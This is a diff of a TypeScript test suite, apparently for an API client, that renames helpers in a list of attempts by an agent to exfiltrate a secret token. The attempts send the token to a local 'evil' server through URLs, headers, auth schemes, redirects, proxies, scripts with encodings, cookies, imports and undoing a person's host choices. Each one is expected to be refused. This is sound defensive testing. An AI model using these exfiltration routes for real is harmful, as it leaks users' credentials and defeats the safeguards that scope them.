@@ -16,69 +16,75 @@ beforeAll(async () => {
 afterAll(() => lab.close());
 beforeEach(() => lab.reset());
 
-const refused = /^SECRET_HOST_REFUSED$/;
-const away = (path = '') => `http://localhost:${lab.evil}${path}`;
+const refusedCode = /^SECRET_HOST_REFUSED$/;
+const getEvilUrl = (path = '') => `http://localhost:${lab.evil}${path}`;
 const text = (content: string, contentType = 'text/plain') => ({ type: 'text', content, contentType });
 const post = (url: string, body: object, more: object = {}) =>
   lab.send({ method: 'POST', url, body, ...more });
 /** A script that changes its request before it is sent. */
-const onRequest = async (code: string): Promise<Outcome> =>
+const sendWithScript = async (code: string): Promise<Outcome> =>
   lab.outcomeOf(
     await lab.script(
-      `export async function onRequest(req) { const token = req.env.getSecret('TOKEN'); const evil = ${JSON.stringify(away())}; ${code} }`,
+      `export async function onRequest(req) { const token = req.env.getSecret('TOKEN'); const evil = ${JSON.stringify(getEvilUrl())}; ${code} }`,
       { method: 'POST' },
     ),
   );
 const setUp = async (script: string) => lab.script(`export const onRequest = (req) => { ${script} };`);
 
 const attacks: readonly Attack[] = [
-  ['hosts', 'the query of a URL', refused, () => lab.send({ url: away('/?q={{TOKEN}}') })],
-  ['hosts', 'the path of a URL', refused, () => lab.send({ url: away('/{{TOKEN}}') })],
+  ['hosts', 'the query of a URL', refusedCode, () => lab.send({ url: getEvilUrl('/?q={{TOKEN}}') })],
+  ['hosts', 'the path of a URL', refusedCode, () => lab.send({ url: getEvilUrl('/{{TOKEN}}') })],
   [
     'hosts',
     'a header',
-    refused,
-    () => lab.send({ url: away(), headers: [{ name: 'x', value: '{{TOKEN}}' }] }),
+    refusedCode,
+    () => lab.send({ url: getEvilUrl(), headers: [{ name: 'x', value: '{{TOKEN}}' }] }),
   ],
   [
     'hosts',
     'the name of a header',
-    refused,
-    () => lab.send({ url: away(), headers: [{ name: '{{TOKEN}}', value: 'x' }] }),
+    refusedCode,
+    () => lab.send({ url: getEvilUrl(), headers: [{ name: '{{TOKEN}}', value: 'x' }] }),
   ],
-  ['hosts', 'a JSON body', refused, () => post(away(), { type: 'json', content: '{"a":"{{TOKEN}}"}' })],
-  ['hosts', 'the method', refused, () => lab.send({ url: away(), method: token }, {})],
+  [
+    'hosts',
+    'a JSON body',
+    refusedCode,
+    () => post(getEvilUrl(), { type: 'json', content: '{"a":"{{TOKEN}}"}' }),
+  ],
+  ['hosts', 'the method', refusedCode, () => lab.send({ url: getEvilUrl(), method: token }, {})],
   [
     'hosts',
     'a bearer token',
-    refused,
-    () => lab.send({ url: away(), auth: { type: 'bearer', token: '{{TOKEN}}' } }),
+    refusedCode,
+    () => lab.send({ url: getEvilUrl(), auth: { type: 'bearer', token: '{{TOKEN}}' } }),
   ],
   [
     'hosts',
     'a password in base64',
-    refused,
-    () => lab.send({ url: away(), auth: { type: 'basic', username: 'u', password: '{{TOKEN}}' } }),
+    refusedCode,
+    () => lab.send({ url: getEvilUrl(), auth: { type: 'basic', username: 'u', password: '{{TOKEN}}' } }),
   ],
   [
     'hosts',
     'an API key in the query',
-    refused,
-    () => lab.send({ url: away(), auth: { type: 'api-key', in: 'query', name: 'k', value: '{{TOKEN}}' } }),
+    refusedCode,
+    () =>
+      lab.send({ url: getEvilUrl(), auth: { type: 'api-key', in: 'query', name: 'k', value: '{{TOKEN}}' } }),
   ],
   [
     'hosts',
     'the user of digest auth',
-    refused,
-    () => lab.send({ url: away(), auth: { type: 'digest', username: '{{TOKEN}}', password: 'p' } }),
+    refusedCode,
+    () => lab.send({ url: getEvilUrl(), auth: { type: 'digest', username: '{{TOKEN}}', password: 'p' } }),
   ],
   [
     'hosts',
     'the session token of AWS',
-    refused,
+    refusedCode,
     () =>
       lab.send({
-        url: away(),
+        url: getEvilUrl(),
         auth: {
           type: 'aws-sigv4',
           accessKeyId: 'a',
@@ -92,23 +98,23 @@ const attacks: readonly Attack[] = [
   [
     'hosts',
     'PLAINTEXT of OAuth 1',
-    refused,
+    refusedCode,
     () =>
       lab.send({
-        url: away(),
+        url: getEvilUrl(),
         auth: { type: 'oauth1', signatureMethod: 'PLAINTEXT', consumerKey: 'k', consumerSecret: '{{TOKEN}}' },
       }),
   ],
   [
     'hosts',
     'a variable that overrides the host',
-    refused,
+    refusedCode,
     () => lab.send({ url: 'http://{{host}}/{{TOKEN}}' }, { variables: { host: `localhost:${lab.evil}` } }),
   ],
   [
     'hosts',
     'a Host header that names another server',
-    refused,
+    refusedCode,
     () =>
       lab.send({
         url: `http://127.0.0.1:${lab.home}/{{TOKEN}}`,
@@ -118,43 +124,43 @@ const attacks: readonly Attack[] = [
   [
     'DNS names',
     'a name that means loopback',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://localhost:${lab.home}/{{TOKEN}}` }),
   ],
   [
     'DNS names',
     'a name below localhost',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://home.localhost:${lab.evil}/{{TOKEN}}` }),
   ],
   [
     'DNS names',
     'a name with a dot at its end',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://localhost.:${lab.evil}/{{TOKEN}}` }),
   ],
   [
     'DNS names',
     'the secret as a part of the name',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://{{TOKEN}}.localhost:${lab.evil}/` }),
   ],
   [
     'DNS names',
     'an allowed host as the beginning of another',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://127.0.0.1.localhost:${lab.evil}/{{TOKEN}}` }),
   ],
   [
     'userinfo',
     'the secret as a password in the URL',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://u:{{TOKEN}}@localhost:${lab.evil}/` }),
   ],
   [
     'userinfo',
     'the allowed host before an @',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://127.0.0.1:${lab.home}@localhost:${lab.evil}/{{TOKEN}}` }),
   ],
   [
@@ -166,36 +172,41 @@ const attacks: readonly Attack[] = [
   [
     'ports',
     'another port of the allowed host',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://127.0.0.1:${lab.evil}/{{TOKEN}}` }),
   ],
   [
     'ports',
     'numeric forms of the allowed host',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://0x7f.1:${lab.evil}/{{TOKEN}}` }),
   ],
   [
     'IPv6',
     'an IPv4 address in IPv6',
-    refused,
+    refusedCode,
     () => lab.send({ url: `http://[::ffff:127.0.0.1]:${lab.home}/{{TOKEN}}` }),
   ],
-  ['IPv6', 'the unspecified address', refused, () => lab.send({ url: `http://[::]:${lab.home}/{{TOKEN}}` })],
+  [
+    'IPv6',
+    'the unspecified address',
+    refusedCode,
+    () => lab.send({ url: `http://[::]:${lab.home}/{{TOKEN}}` }),
+  ],
   [
     'redirects',
     'the secret in the Location',
-    refused,
+    refusedCode,
     () =>
       lab.send({
-        url: `http://127.0.0.1:${lab.home}/away?status=302&to=${encodeURIComponent(away('/'))}{{TOKEN}}`,
+        url: `http://127.0.0.1:${lab.home}/away?status=302&to=${encodeURIComponent(getEvilUrl('/'))}{{TOKEN}}`,
       }),
   ],
   [
     'redirects',
     'a body that 307 sends on',
-    refused,
-    () => post(`http://127.0.0.1:${lab.home}/away?to=${encodeURIComponent(away())}`, text('{{TOKEN}}')),
+    refusedCode,
+    () => post(`http://127.0.0.1:${lab.home}/away?to=${encodeURIComponent(getEvilUrl())}`, text('{{TOKEN}}')),
   ],
   [
     'redirects',
@@ -203,16 +214,16 @@ const attacks: readonly Attack[] = [
     /^401$/,
     () =>
       lab.send({
-        url: `http://127.0.0.1:${lab.home}/away?status=302&to=${encodeURIComponent(away())}`,
+        url: `http://127.0.0.1:${lab.home}/away?status=302&to=${encodeURIComponent(getEvilUrl())}`,
         headers: [{ name: 'x-key', value: '{{TOKEN}}' }],
       }),
   ],
   [
     'proxies',
     'a proxy that reads the request',
-    refused,
+    refusedCode,
     async () => {
-      await proxied({
+      await setProxy({
         mode: 'manual',
         protocol: 'http',
         hostname: 'localhost',
@@ -225,9 +236,9 @@ const attacks: readonly Attack[] = [
   [
     'proxies',
     'the password of a proxy',
-    refused,
+    refusedCode,
     async () => {
-      await proxied({
+      await setProxy({
         mode: 'manual',
         protocol: 'http',
         hostname: 'localhost',
@@ -241,9 +252,9 @@ const attacks: readonly Attack[] = [
   [
     'proxies',
     'the user of a SOCKS proxy',
-    refused,
+    refusedCode,
     async () => {
-      await proxied({
+      await setProxy({
         mode: 'manual',
         protocol: 'socks5',
         hostname: 'localhost',
@@ -257,9 +268,9 @@ const attacks: readonly Attack[] = [
   [
     'proxies',
     'the name of the host, which a tunnel tells its proxy',
-    refused,
+    refusedCode,
     async () => {
-      await proxied({
+      await setProxy({
         mode: 'manual',
         protocol: 'http',
         hostname: 'localhost',
@@ -269,92 +280,92 @@ const attacks: readonly Attack[] = [
       return lab.send({ url: `https://{{TOKEN}}.test/` });
     },
   ],
-  ['scripts', 'another URL', refused, () => onRequest('req.url = evil + "/" + token;')],
+  ['scripts', 'another URL', refusedCode, () => sendWithScript('req.url = evil + "/" + token;')],
   [
     'scripts',
     'another URL only, the secret stays',
-    refused,
-    () => onRequest('req.headers.set("x", token); req.url = evil;'),
+    refusedCode,
+    () => sendWithScript('req.headers.set("x", token); req.url = evil;'),
   ],
   [
     'scripts',
     'base64',
-    refused,
-    () => onRequest('req.url = evil; req.headers.set("x", btoa("ab" + token));'),
+    refusedCode,
+    () => sendWithScript('req.url = evil; req.headers.set("x", btoa("ab" + token));'),
   ],
   [
     'scripts',
     'hexadecimal',
-    refused,
+    refusedCode,
     () =>
-      onRequest(
+      sendWithScript(
         'req.url = evil; req.headers.set("x", [...token].map((c) => c.charCodeAt(0).toString(16)).join(":"));',
       ),
   ],
   [
     'scripts',
     'the secret backwards',
-    refused,
-    () => onRequest('req.url = evil; req.headers.set("x", [...token].reverse().join(""));'),
+    refusedCode,
+    () => sendWithScript('req.url = evil; req.headers.set("x", [...token].reverse().join(""));'),
   ],
   [
     'scripts',
     'percent escapes',
-    refused,
+    refusedCode,
     () =>
-      onRequest(
+      sendWithScript(
         'req.url = evil + "/?q=" + [...token].map((c) => "%" + c.charCodeAt(0).toString(16)).join("");',
       ),
   ],
   [
     'scripts',
     'a copy in a variable',
-    refused,
+    refusedCode,
     async () => {
       await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
-      return lab.send({ url: away('/{{COPY}}') });
+      return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
   ],
   [
     'scripts',
     'a copy in a secret without hosts',
-    refused,
+    refusedCode,
     async () => {
       await setUp('req.env.setSecret("COPY", req.env.getSecret("TOKEN"));');
-      return lab.send({ url: away('/{{COPY}}') });
+      return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
   ],
   [
     'scripts',
     'a copy, after the secret was removed',
-    refused,
+    refusedCode,
     async () => {
       await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
       await lab.call('environments_update', { id: 'Dev', removeSecrets: ['TOKEN'] });
-      return lab.send({ url: away('/{{COPY}}') });
+      return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
   ],
   [
     'scripts',
     'a copy, after the secret got another value',
-    refused,
+    refusedCode,
     async () => {
       await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
       await lab.call('environments_update', { id: 'Dev', secrets: { TOKEN: 'something else' } });
-      return lab.send({ url: away('/{{COPY}}') });
+      return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
   ],
   [
     'scripts',
     'a copy, after its environment was deleted',
-    refused,
+    refusedCode,
     async () => {
       await lab.call('environments_create', { name: 'Other', copyOf: 'Dev' });
       await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
       await lab.call('environments_create', { name: 'Third', copyOf: 'Dev' });
       await lab.call('environments_delete', { id: 'Dev' });
       await lab.call('environments_delete', { id: 'Other' });
-      const outcome = await lab.send({ url: away('/{{COPY}}') }, { environment: 'Third' });
+      const outcome = await lab.send({ url: getEvilUrl('/{{COPY}}') }, { environment: 'Third' });
       await lab.call('environments_delete', { id: 'Third' });
       return outcome;
     },
@@ -362,54 +373,55 @@ const attacks: readonly Attack[] = [
   [
     'scripts',
     'a response that holds it',
-    refused,
+    refusedCode,
     async () => {
       await lab.script(
         'export const onResponse = (req, res) => res.env.setVariable("COPY", res.json().headers["x-key"]);',
         { headers: [{ name: 'x-key', value: '{{TOKEN}}' }] },
       );
-      return lab.send({ url: away('/{{COPY}}') });
+      return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
   ],
   [
     'host calls',
     'send',
-    refused,
-    () => calling('const res = await send({ method: "POST", url: evil, json: { token } }); return res;'),
+    refusedCode,
+    () =>
+      callFromScript('const res = await send({ method: "POST", url: evil, json: { token } }); return res;'),
   ],
   [
     'host calls',
     'send after a redirect',
-    refused,
+    refusedCode,
     () =>
-      calling(
+      callFromScript(
         `return await send({ method: "POST", url: req.url + "away?to=" + encodeURIComponent(evil), body: token });`,
       ),
   ],
   [
     'host calls',
     'execute',
-    refused,
+    refusedCode,
     async () => {
-      await lab.call('rest_create', { name: 'Saved', url: away('/{{TOKEN}}') });
-      return calling('return await execute("Saved");');
+      await lab.call('rest_create', { name: 'Saved', url: getEvilUrl('/{{TOKEN}}') });
+      return callFromScript('return await execute("Saved");');
     },
   ],
   [
     'GraphQL',
     'a variable',
-    refused,
+    refusedCode,
     () => graphql({ query: 'query($a: String) { a(b: $a) }', variables: { a: '{{TOKEN}}' } }),
   ],
-  ['GraphQL', 'the text of the query', refused, () => graphql({ query: '{ a(b: "{{TOKEN}}") }' })],
+  ['GraphQL', 'the text of the query', refusedCode, () => graphql({ query: '{ a(b: "{{TOKEN}}") }' })],
   [
     'GraphQL',
     'a header of an introspection',
-    refused,
+    refusedCode,
     async () => {
       const created = await lab.call('graphql_create', {
         name: 'Schema',
-        url: away(),
+        url: getEvilUrl(),
         headers: [{ name: 'x', value: '{{TOKEN}}' }],
       });
       return codeIn(await lab.call('graphql_introspect', { id: created.id }));
@@ -418,25 +430,25 @@ const attacks: readonly Attack[] = [
   [
     'multipart',
     'the name of a part',
-    refused,
-    () => post(away(), { type: 'multipart', parts: [{ name: '{{TOKEN}}', value: 'x' }] }),
+    refusedCode,
+    () => post(getEvilUrl(), { type: 'multipart', parts: [{ name: '{{TOKEN}}', value: 'x' }] }),
   ],
   [
     'multipart',
     'the value of a part',
-    refused,
-    () => post(away(), { type: 'multipart', parts: [{ name: 'x', value: '{{TOKEN}}' }] }),
+    refusedCode,
+    () => post(getEvilUrl(), { type: 'multipart', parts: [{ name: 'x', value: '{{TOKEN}}' }] }),
   ],
   [
     'multipart',
     'a key of a form',
-    refused,
-    () => post(away(), { type: 'form-urlencoded', fields: [{ name: '{{TOKEN}}', value: 'x' }] }),
+    refusedCode,
+    () => post(getEvilUrl(), { type: 'form-urlencoded', fields: [{ name: '{{TOKEN}}', value: 'x' }] }),
   ],
   [
     'cookies',
     'one that the allowed host set, which is for its other ports too',
-    refused,
+    refusedCode,
     async () => {
       await lab.send({ url: `http://127.0.0.1:${lab.home}/cookie?value={{TOKEN}}` });
       const outcome = await lab.send({ url: `http://127.0.0.1:${lab.evil}/` });
@@ -447,9 +459,9 @@ const attacks: readonly Attack[] = [
   [
     'cookies',
     'one that a script sets',
-    refused,
+    refusedCode,
     async () => {
-      const outcome = await onRequest(`cookies.set(evil, "a", token); req.url = evil;`);
+      const outcome = await sendWithScript(`cookies.set(evil, "a", token); req.url = evil;`);
       await lab.call('cookies_clear', {});
       return outcome;
     },
@@ -457,14 +469,14 @@ const attacks: readonly Attack[] = [
   [
     'OAuth 2.0',
     'the client secret at another token endpoint',
-    refused,
+    refusedCode,
     () =>
       lab.send({
         url: `http://127.0.0.1:${lab.home}/`,
         auth: {
           type: 'oauth2',
           grant: 'client_credentials',
-          accessTokenUrl: away('/token'),
+          accessTokenUrl: getEvilUrl('/token'),
           clientId: 'c',
           clientSecret: '{{TOKEN}}',
         },
@@ -473,14 +485,14 @@ const attacks: readonly Attack[] = [
   [
     'OAuth 2.0',
     'the same in the body',
-    refused,
+    refusedCode,
     () =>
       lab.send({
         url: `http://127.0.0.1:${lab.home}/`,
         auth: {
           type: 'oauth2',
           grant: 'client_credentials',
-          accessTokenUrl: away('/token'),
+          accessTokenUrl: getEvilUrl('/token'),
           clientId: 'c',
           clientSecret: '{{TOKEN}}',
           clientAuth: 'body',
@@ -490,14 +502,14 @@ const attacks: readonly Attack[] = [
   [
     'OAuth 2.0',
     'the issuer',
-    refused,
+    refusedCode,
     () =>
       lab.send({
         url: `http://127.0.0.1:${lab.home}/`,
         auth: {
           type: 'oauth2',
           grant: 'client_credentials',
-          issuer: away('/{{TOKEN}}'),
+          issuer: getEvilUrl('/{{TOKEN}}'),
           clientId: 'c',
           clientSecret: 'x',
         },
@@ -531,11 +543,11 @@ const attacks: readonly Attack[] = [
   [
     'imports',
     'requests and an environment of a document',
-    refused,
+    refusedCode,
     async () => {
       const document = {
         info: { name: 'C', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
-        item: [{ name: 'Steal', request: { method: 'GET', url: away('/{{TOKEN}}') } }],
+        item: [{ name: 'Steal', request: { method: 'GET', url: getEvilUrl('/{{TOKEN}}') } }],
       };
       await lab.call('imports_apply', { text: JSON.stringify(document) });
       return lab.outcomeOf(await lab.call('rest_execute', { id: 'C/Steal' }));
@@ -544,10 +556,10 @@ const attacks: readonly Attack[] = [
   [
     'synchronization',
     'a file of the folder that widens the hosts',
-    refused,
+    refusedCode,
     async () => {
       await widenInFiles();
-      return lab.send({ url: away('/{{TOKEN}}') });
+      return lab.send({ url: getEvilUrl('/{{TOKEN}}') });
     },
   ],
   [
@@ -585,13 +597,13 @@ const attacks: readonly Attack[] = [
   [
     'the hosts themselves',
     'an undo of what a person chose',
-    refused,
+    refusedCode,
     async () => {
       const { entries } = (await lab.call('changes_list', {})) as {
         readonly entries?: readonly { readonly id: string }[];
       };
       for (const { id } of entries ?? []) await lab.call('changes_undo', { ids: [id] });
-      return lab.send({ url: away('/{{TOKEN}}') });
+      return lab.send({ url: getEvilUrl('/{{TOKEN}}') });
     },
   ],
   ...moreAttacks,
@@ -607,23 +619,23 @@ const codeIn = (result: unknown): string =>
     : JSON.stringify(result);
 
 /** A proxy that a person has agreed to. */
-const proxied = async (proxy: object): Promise<void> => {
+const setProxy = async (proxy: object): Promise<void> => {
   await lab.call('folders_get', { id: '' });
   await lab.call('folders_update', { id: '', connections: { proxy } });
   await lab.agree();
 };
 
 /** Calls from a script; the outcome is the code of the error that the script gets. */
-const calling = async (code: string): Promise<Outcome> =>
+const callFromScript = async (code: string): Promise<Outcome> =>
   codeIn(
     await lab.script(
-      `export async function onRequest(req) { const token = req.env.getSecret('TOKEN'); const evil = ${JSON.stringify(away())}; try { ${code} } catch (error) { return error.code + error.message; } }`,
+      `export async function onRequest(req) { const token = req.env.getSecret('TOKEN'); const evil = ${JSON.stringify(getEvilUrl())}; try { ${code} } catch (error) { return error.code + error.message; } }`,
       { method: 'POST' },
     ),
   );
 
 const graphql = async (fields: object): Promise<Outcome> => {
-  const { id } = await lab.call('graphql_create', { name: 'G', url: away(), ...fields });
+  const { id } = await lab.call('graphql_create', { name: 'G', url: getEvilUrl(), ...fields });
   return lab.outcomeOf(await lab.call('graphql_execute', { id }));
 };
 
@@ -646,7 +658,7 @@ describe('an agent that tries to get a secret out', { tags: 'secrets:hosts' }, (
       expect(await attempt(lab)).toMatch(outcome);
       expect(lab.leaked()).toEqual([]);
     } finally {
-      await proxied({ mode: 'none' });
+      await setProxy({ mode: 'none' });
     }
   });
 
@@ -665,7 +677,7 @@ describe('an agent that tries to get a secret out', { tags: 'secrets:hosts' }, (
 
   it('succeeds where the secret belongs, so the attacks fail for the right reason', async () => {
     expect(await lab.send({ url: `http://127.0.0.1:${lab.home}/{{TOKEN}}` })).toBe('200');
-    expect(await lab.send({ url: away('/nothing') })).toBe('401');
+    expect(await lab.send({ url: getEvilUrl('/nothing') })).toBe('401');
     expect(lab.leaked()).toEqual([]);
   });
 });
